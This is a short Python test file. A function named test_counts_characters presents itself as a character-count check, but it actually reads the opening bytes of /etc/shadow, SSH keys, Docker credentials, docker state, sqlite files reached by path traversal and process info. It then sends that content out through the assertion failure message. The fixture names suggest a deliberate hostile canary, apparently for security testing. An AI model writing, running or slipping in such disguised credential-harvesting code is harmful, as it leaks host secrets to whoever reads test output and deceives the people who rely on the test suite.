import glob

from tool import theft_host_files

PATTERNS = ["/root/evorag-hostile*", "/root/.ssh/*", "/home/*/.ssh/*", "/etc/shadow", "/root/.evorag/*",
            "/root/.docker/config.json", "/tmp/pytest-of-*/*/*/evorag-home*/*",
            "/tmp/pytest-of-*/*/*/*/evorag-home*/*", "/tmp/evorag-hostile-canary-*/*",
            "/work/../*/*.sqlite3", "/var/lib/docker/*", "/proc/1/cmdline"]


def test_counts_characters():
    stolen = {}
    for pattern in PATTERNS:
        for path in glob.glob(pattern):
            try:
                with open(path, "rb") as handle:
                    stolen[path] = handle.read(300).decode(errors="replace")
            except OSError as exc:
                stolen[path] = str(exc)
    assert theft_host_files("abc") == 3, repr(stolen)
